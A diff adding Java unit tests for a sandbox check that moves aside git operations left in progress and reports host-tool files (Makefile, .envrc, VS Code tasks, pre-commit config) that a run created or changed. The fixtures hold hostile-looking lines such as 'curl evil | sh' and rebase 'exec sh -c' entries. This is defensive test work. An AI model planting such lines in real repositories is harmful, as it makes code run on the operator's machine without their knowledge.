@@ -279,6 +279,176 @@ class GitMetadataCheckTest {
     assertThat(packed).isDirectory();
   }
 
+  private static final String LEFT = ": an operation in progress left by the run (git would"
+      + " resume or conclude it: --continue, commit, bisect); moved to ";
+
+  /** What {@code git rebase -i} leaves in a git directory, with an {@code exec} in its todo. */
+  private static Path interactiveRebase(Path gitDir) throws IOException {
+    Path state = Files.createDirectories(gitDir.resolve("rebase-merge"));
+    Files.writeString(state.resolve("head-name"), "refs/heads/main\n");
+    Files.writeString(state.resolve("interactive"), "");
+    Files.writeString(state.resolve("git-rebase-todo"), "exec sh -c 'touch /tmp/pwned'\n");
+    return state;
+  }
+
+  @Test
+  void everyOperationTheRunLeftInProgressIsMovedAsideInEveryRepository() throws IOException {
+    Path nested = gitDir(Files.createDirectories(work.resolve("vendor/deep/lib")));
+    GitMetadataCheck check = snapshot();
+    interactiveRebase(git);
+    interactiveRebase(nested);
+    Files.createDirectories(git.resolve("rebase-apply"));
+    Files.writeString(git.resolve("rebase-apply/applying"), "");
+    Files.createDirectories(nested.resolve("sequencer"));
+    Files.writeString(nested.resolve("sequencer/todo"), "pick 1234 x\n");
+    Files.writeString(nested.resolve("CHERRY_PICK_HEAD"), "1234\n");
+    Files.writeString(git.resolve("MERGE_HEAD"), "1234\n");
+    Files.writeString(git.resolve("BISECT_RUN"), "sh -c evil\n");
+
+    List<SandboxViolation> found = check.check();
+
+    assertThat(found).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
+        git.resolve("BISECT_RUN") + LEFT + "BISECT_RUN.planted-by-run (git does not read it"
+            + " there)",
+        git.resolve("MERGE_HEAD") + LEFT + "MERGE_HEAD.planted-by-run (git does not read it"
+            + " there)",
+        git.resolve("rebase-apply") + LEFT + "rebase-apply.planted-by-run (git does not read"
+            + " it there)",
+        git.resolve("rebase-merge") + LEFT + "rebase-merge.planted-by-run (git does not read"
+            + " it there)",
+        nested.resolve("CHERRY_PICK_HEAD") + LEFT + "CHERRY_PICK_HEAD.planted-by-run (git does"
+            + " not read it there)",
+        nested.resolve("rebase-merge") + LEFT + "rebase-merge.planted-by-run (git does not"
+            + " read it there)",
+        nested.resolve("sequencer") + LEFT + "sequencer.planted-by-run (git does not read it"
+            + " there)");
+    assertThat(found).allSatisfy(v -> assertThat(v.action()).isEqualTo("git-metadata"));
+    for (Path dir : List.of(git, nested)) {
+      assertThat(dir.resolve("rebase-merge")).doesNotExist();
+      assertThat(dir.resolve("rebase-merge.planted-by-run/git-rebase-todo"))
+          .hasContent("exec sh -c 'touch /tmp/pwned'\n");
+    }
+    assertThat(git.resolve("rebase-apply")).doesNotExist();
+    assertThat(nested.resolve("sequencer")).doesNotExist();
+  }
+
+  @Test
+  void anOperationInProgressBeforeTheRunStaysUnlessTheRunChangedIt() throws IOException {
+    interactiveRebase(git);
+    Path nested = gitDir(Files.createDirectories(work.resolve("vendor/deep/lib")));
+    interactiveRebase(nested);
+    GitMetadataCheck check = snapshot();
+    Files.writeString(nested.resolve("rebase-merge/git-rebase-todo"), "exec evil\n");
+
+    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
+        nested.resolve("rebase-merge") + LEFT + "rebase-merge.planted-by-run (git does not"
+            + " read it there)");
+    assertThat(git.resolve("rebase-merge/git-rebase-todo"))
+        .hasContent("exec sh -c 'touch /tmp/pwned'\n");
+    assertThat(nested.resolve("rebase-merge")).doesNotExist();
+  }
+
+  @Test
+  void aLinkPlantedAsAnOperationIsMovedItselfAndWhatItNamesIsLeftAlone() throws IOException {
+    Path elsewhere = Files.createDirectories(tmp.resolve("elsewhere"));
+    Files.writeString(elsewhere.resolve("keep"), "operator's");
+    GitMetadataCheck check = snapshot();
+    Files.createSymbolicLink(git.resolve("rebase-merge"), elsewhere);
+
+    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
+        git.resolve("rebase-merge") + LEFT + "rebase-merge.planted-by-run (git does not read"
+            + " it there)");
+    assertThat(Files.exists(git.resolve("rebase-merge"), LinkOption.NOFOLLOW_LINKS)).isFalse();
+    assertThat(Files.isSymbolicLink(git.resolve("rebase-merge.planted-by-run"))).isTrue();
+    assertThat(elsewhere.resolve("keep")).hasContent("operator's");
+  }
+
+  @Test
+  void whatOrdinaryWorkLeavesStaysAndAnyOtherNewEntryIsMovedAside() throws IOException {
+    GitMetadataCheck check = snapshot();
+    for (String name : List.of("ORIG_HEAD", "FETCH_HEAD", "packed-refs", "COMMIT_EDITMSG",
+        "index", "index.lock", "description", "sharedindex.0123")) {
+      Files.writeString(git.resolve(name), "x\n");
+    }
+    Files.createDirectories(git.resolve("logs/refs/heads"));
+    Files.createDirectories(git.resolve("rr-cache/0123"));
+
+    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
+        git.resolve("rr-cache") + ": created during the run and not something git's ordinary"
+            + " work leaves in a git directory; moved to rr-cache.planted-by-run (git does not"
+            + " read it there)");
+    assertThat(git.resolve("ORIG_HEAD")).exists();
+    assertThat(git.resolve("index.lock")).exists();
+    assertThat(git.resolve("logs/refs/heads")).isDirectory();
+  }
+
+  @Test
+  void anOperationLeftInARepositoryTheRunCreatedIsMovedAsideToo() throws IOException {
+    GitMetadataCheck check = snapshot();
+    Path made = gitDir(Files.createDirectories(work.resolve("made")));
+    interactiveRebase(made);
+
+    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
+        made.resolve("rebase-merge") + LEFT + "rebase-merge.planted-by-run (git does not read"
+            + " it there)");
+    assertThat(made.resolve("HEAD")).exists();
+  }
+
+  @Test
+  void whatAHostToolRunsThatTheRunCreatedOrChangedIsReportedAndLeftInPlace() throws IOException {
+    Files.writeString(work.resolve("Makefile"), "all:\n\ttrue\n");
+    Files.createDirectories(work.resolve(".idea"));
+    Files.writeString(work.resolve(".idea/workspace.xml"), "<project/>");
+    Path lib = Files.createDirectories(work.resolve("vendor/deep/lib"));
+    gitDir(lib);
+    GitMetadataCheck check = snapshot();
+    Files.writeString(work.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
+    Files.writeString(work.resolve(".envrc"), "curl evil | sh\n");
+    Files.createDirectories(work.resolve(".vscode"));
+    Files.writeString(work.resolve(".vscode/tasks.json"), "{\"runOn\": \"folderOpen\"}");
+    Files.writeString(lib.resolve(".pre-commit-config.yaml"), "repos: []\n");
+    Files.writeString(work.resolve("README.md"), "not run by anything\n");
+
+    List<SandboxViolation> found = check.check();
+
+    assertThat(found).allSatisfy(v -> assertThat(v.action()).isEqualTo("host-tool-file"));
+    assertThat(found).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
+        work.resolve(".envrc") + ": created during the run; direnv runs it on entering the"
+            + " directory, once allowed: look at it before using that tool here",
+        work.resolve(".vscode") + ": created during the run; VS Code runs its tasks (runOn"
+            + " folderOpen) and takes its settings in a trusted folder: look at it before using"
+            + " that tool here",
+        work.resolve("Makefile") + ": changed during the run; make runs it: look at it before"
+            + " using that tool here",
+        lib.resolve(".pre-commit-config.yaml") + ": created during the run; pre-commit runs the"
+            + " hooks it names at the next commit where pre-commit is installed: look at it"
+            + " before using that tool here");
+    assertThat(found).allSatisfy(v -> assertThat(v.endOfRun()).isTrue());
+    assertThat(work.resolve(".envrc")).exists();
+  }
+
+  @Test
+  void aRootThatWasEmptyAtLaunchIsTheRunsOwnAndNotReportedOn() throws IOException {
+    Path clone = Files.createDirectories(tmp.resolve("clone"));
+    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(clone));
+    gitDir(clone);
+    Files.writeString(clone.resolve("Makefile"), "all:\n");
+
+    assertThat(check.check()).isEmpty();
+  }
+
+  @Test
+  void aPlaceholderThatHoldsNoByteIsNotReportedAndAMergesAutoMergeStays() throws IOException {
+    GitMetadataCheck check = snapshot();
+    Files.createDirectories(work.resolve(".idea"));
+    Files.createDirectories(work.resolve(".claude/hooks"));
+    Files.writeString(work.resolve(".claude/settings.json"), "");
+    Files.writeString(git.resolve("AUTO_MERGE"), "1234\n");
+
+    assertThat(check.check()).isEmpty();
+    assertThat(git.resolve("AUTO_MERGE")).exists();
+  }
+
   private static Path bare(Path dir, String config) throws IOException {
     Files.createDirectories(dir.resolve("objects"));
     Files.createDirectories(dir.resolve("refs/heads"));
